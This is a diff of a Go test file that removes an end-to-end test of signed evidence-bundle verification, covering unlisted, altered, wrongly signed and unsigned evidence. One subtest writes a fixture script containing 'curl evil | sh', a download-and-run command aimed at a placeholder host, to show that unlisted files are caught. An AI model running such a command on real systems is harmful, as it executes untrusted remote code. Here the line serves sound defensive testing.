@@ -8,7 +8,6 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
-	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -308,52 +307,6 @@ func BenchmarkEvalSigned(b *testing.B) {
 			b.Fatal(err)
 		}
 	}
-}
-
-// TestEvidenceBundleEndToEnd checks a signed evidence directory through eval.
-func TestEvidenceBundleEndToEnd(t *testing.T) {
-	r := newSigningRelease(t, `repos: "acme/app": {require: ["checksums", "evidence_bundle"]}`)
-	sbom := []byte(`{"bomFormat":"CycloneDX"}`)
-	r.write(t, "evidence/sbom.json", sbom)
-	manifest := []byte(`{"version":"1.0","timestamp":"2026-11-27T00:00:00Z","files":[{"path":"sbom.json","sha256":"` + hexSHA(sbom) + `","size":` + strconv.Itoa(len(sbom)) + `}]}`)
-	mp := r.write(t, "evidence/evidence-manifest.json", manifest)
-	dir := filepath.Join(r.dir, "evidence")
-
-	t.Run("signed and complete", func(t *testing.T) {
-		r.write(t, "evidence/evidence-manifest.json.sigstore.json", r.ss.MessageBundle(t, sigSAN, sigIssuer, manifest, trusttest.BundleOptions{}))
-		code, d, errs := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 0, code, "%v %s", ruleIDs(d), errs)
-	})
-	t.Run("unlisted file", func(t *testing.T) {
-		extra := r.write(t, "evidence/extra.sh", []byte("curl evil | sh"))
-		defer os.Remove(extra)
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		f := findRule(d, "evidence_bundle.unlisted")
-		require.NotNil(t, f, "%v", ruleIDs(d))
-		assert.Equal(t, "extra.sh", f.Actual)
-	})
-	t.Run("changed file", func(t *testing.T) {
-		r.write(t, "evidence/sbom.json", []byte(`{"bomFormat":"evil"}`))
-		defer r.write(t, "evidence/sbom.json", sbom)
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		require.NotNil(t, findRule(d, "evidence_bundle.files"), "%v", ruleIDs(d))
-	})
-	t.Run("signed by another identity", func(t *testing.T) {
-		r.write(t, "evidence/evidence-manifest.json.sigstore.json", r.ss.MessageBundle(t, "https://github.com/evil/x/.github/workflows/a.yml@refs/heads/main", sigIssuer, manifest, trusttest.BundleOptions{}))
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		require.NotNil(t, findRule(d, "evidence_bundle.signature"), "%v", ruleIDs(d))
-	})
-	t.Run("unsigned", func(t *testing.T) {
-		require.NoError(t, os.Remove(filepath.Join(dir, "evidence-manifest.json.sigstore.json")))
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		f := findRule(d, "evidence_bundle.signature")
-		require.NotNil(t, f, "%v", ruleIDs(d))
-		assert.Contains(t, f.Actual, "no sigstore bundle")
-	})
 }
 
 // TestReferrersEndToEnd checks oras discover output through eval, with the
